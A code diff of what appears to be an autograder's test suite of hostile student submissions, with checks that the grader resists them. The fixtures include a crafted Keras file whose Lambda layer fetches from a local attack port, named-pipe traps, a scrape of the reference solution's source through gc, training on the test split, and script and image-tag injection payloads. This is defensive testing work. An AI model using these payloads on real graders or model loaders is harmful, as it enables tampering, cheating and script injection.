@@ -6,6 +6,7 @@ and, hostile ones before honest ones, in tests/test_neighbours.py."""
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 
 from attacks import FULL, Attack, Context, facts
@@ -31,12 +32,34 @@ def _crafted_keras(path):
     fifo = os.path.join(os.path.dirname(path), "weights.fifo")
     os.mkfifo(fifo)
     hostile = [
-        {"module": "keras", "class_name": "layers.Lambda", "registered_name": None, "config": {"name": "download",
-         "function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"},
-         "arguments": {"origin": f"http://127.0.0.1:{ATTACK_PORT}/crafted", "fname": f"crafted-{ATTACK_TOKEN}"}}},
+        {
+            "module": "keras",
+            "class_name": "layers.Lambda",
+            "registered_name": None,
+            "config": {
+                "name": "download",
+                "function": {
+                    "module": "keras.utils",
+                    "class_name": "function",
+                    "config": "get_file",
+                    "registered_name": "function",
+                },
+                "arguments": {"origin": f"http://127.0.0.1:{ATTACK_PORT}/crafted", "fname": f"crafted-{ATTACK_TOKEN}"},
+            },
+        },
         {"module": "keras", "class_name": "distribution.set_distribution", "registered_name": None, "config": {}},
-        {"module": "keras.applications", "class_name": "function", "registered_name": "function", "config": "MobileNet"},
-        {"module": "keras", "class_name": "applications.MobileNet", "registered_name": None, "config": {"weights": fifo}},
+        {
+            "module": "keras.applications",
+            "class_name": "function",
+            "registered_name": "function",
+            "config": "MobileNet",
+        },
+        {
+            "module": "keras",
+            "class_name": "applications.MobileNet",
+            "registered_name": None,
+            "config": {"weights": fifo},
+        },
     ]
     with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as crafted:
         for name in source.namelist():
@@ -50,7 +73,10 @@ def _crafted_keras(path):
     return "crafted"
 
 
-_attempt("leave a crafted trained.keras", lambda: _crafted_keras(os.path.join(os.path.dirname(os.getcwd()), "out", "trained.keras")))
+_attempt(
+    "leave a crafted trained.keras",
+    lambda: _crafted_keras(os.path.join(os.path.dirname(os.getcwd()), "out", "trained.keras")),
+)
 model = None  # the export must not overwrite the crafted file
 """
 
@@ -65,15 +91,17 @@ def _fifos(folder, names):
     return f"{len(names)} named pipes in {folder}"
 
 
-@_at_definition(lambda: _where() == "probe" and atexit.register(
-    lambda: _fifos(os.path.join(_probe_folder(), "out"), ["preprocess.json", "preprocess.npz", "make_unet-0.json"])))
+@_at_definition(lambda: _where() == "probe" and _fifos(os.path.join(_probe_folder(), "out"),
+    ["preprocess.json", "preprocess.npz", "make_unet-0.json"]))
 def _probe_fifos():
     pass
 """
 
 _FIFOS_KERNEL = r"""
-_attempt("named pipes where the export goes",
-         lambda: _fifos(os.path.join(os.path.dirname(os.getcwd()), "out"), ["trained.keras", "history.json", "fits.json"]))
+_attempt(
+    "named pipes where the export goes",
+    lambda: _fifos(os.path.join(os.path.dirname(os.getcwd()), "out"), ["trained.keras", "history.json", "fits.json"]),
+)
 model = None  # nothing the export could write over the pipes
 """
 
@@ -121,7 +149,11 @@ def _reference_source(name):
     except (OSError, ValueError):
         pass
     for item in gc.get_objects():
-        if isinstance(item, types.FunctionType) and item.__name__ == name and not item.__code__.co_filename.startswith("cell "):
+        if (
+            isinstance(item, types.FunctionType)
+            and item.__name__ == name
+            and not item.__code__.co_filename.startswith("cell ")
+        ):
             try:
                 found.append(inspect.getsource(item))
             except (OSError, TypeError):
@@ -174,8 +206,10 @@ print(f"ATTEMPT [kernel] trained on the test split: {int(model.optimizer.iterati
 # Markup in every text a student controls: an error, a cell's first line, a printed line.
 _MARKUP = r"""# <img src=http://127.0.0.1/markup-cell> [click](http://127.0.0.1/link) <script>alert(1)</script>
 def preprocess(example):
-    raise ValueError(f"<img src=http://127.0.0.1:{ATTACK_PORT}/markup-error> ![i](http://127.0.0.1:{ATTACK_PORT}/md-image) "
-                     f"[click](http://127.0.0.1:{ATTACK_PORT}/md-link) <script>alert(1)</script> `tick` **bold**")
+    raise ValueError(
+        f"<img src=http://127.0.0.1:{ATTACK_PORT}/markup-error> ![i](http://127.0.0.1:{ATTACK_PORT}/md-image) "
+        f"[click](http://127.0.0.1:{ATTACK_PORT}/md-link) <script>alert(1)</script> `tick` **bold**"
+    )
 
 
 raise RuntimeError(f"<img src=http://127.0.0.1:{ATTACK_PORT}/markup-kernel> [click](http://127.0.0.1:{ATTACK_PORT}/k)")
@@ -213,11 +247,9 @@ def _check_crafted(folder: Path, context: Context) -> list[str]:
     training = facts(folder).get("training", {})
     if training.get("model") is not None:
         return ["the grader loaded the crafted trained.keras"]
-    return (
-        []
-        if "Lambda" in training.get("model_problem", "")
-        else [f"refused for another reason: {training.get('model_problem')}"]
-    )
+    problem = training.get("model_problem", "")
+    refused = "which the grader does not build" in problem or "which is not a Keras class" in problem
+    return [] if refused else [f"refused for another reason: {problem}"]
 
 
 def _check_fifos(folder: Path, _context: Context) -> list[str]:
@@ -247,21 +279,26 @@ def _check_train_on_test(folder: Path, _context: Context) -> list[str]:
 
 
 def _check_inert(folder: Path, context: Context) -> list[str]:
-    """No report a student or Gradescope renders holds live markup from student text."""
+    """No report a student or Gradescope renders holds live markup from student text: feedback.md rendered as
+    CommonMark has no link, image or HTML, and no web address outside code spans (GitHub would link it); the HTML
+    reports have no image or link pointing outside the file and no script."""
+    from markdown_it import MarkdownIt
+
     problems = []
-    shown = {
-        name: (folder / name).read_text(errors="replace")
-        for name in ("feedback.md", "feedback.html")
-        if (folder / name).is_file()
-    }
+    markdown = (folder / "feedback.md").read_text(errors="replace")
+    rendered = MarkdownIt("commonmark").render(markdown)
+    problems += [f"feedback.md renders {tag!r}" for tag in ("<a ", "<img", "<script") if tag in rendered]
+    prose = re.sub(r"`[^`]*`", "", markdown)
+    problems += ["feedback.md holds a web address outside code spans"] if re.search(r"https?://|www\.", prose) else []
     results = json.loads((folder / "results.json").read_text())
-    shown["results.json"] = "\n".join(
+    pages = {"feedback.html": (folder / "feedback.html").read_text(errors="replace")}
+    pages["results.json"] = "\n".join(
         [results["output"], *(t["output"] for t in results["tests"] if t.get("visibility") != "hidden")]
     )
-    for name, text in shown.items():
-        for raw in ("<img src=http", "<script>alert", "](http", "[click]("):
-            if raw in text:
-                problems.append(f"{name} holds {raw!r} from student text")
+    for name, page in pages.items():
+        for live in ("<script>alert", "<img src=http", '<a href="http', 'src="http', "src='http"):
+            if live in page:
+                problems.append(f"{name} holds {live!r} from student text")
     return problems
 
 
@@ -308,7 +345,7 @@ ATTACKS = [
         [("apply_config", _FIFOS), ("end", _FIFOS_KERNEL)],
         check=_check_fifos,
         order=41,
-        honest_override={**FULL, "preprocess": 0.0, "unet": 0.0, "training": 0.0},
+        honest_override=NO_TRAINING,
     ),
     Attack(
         "reference_source",
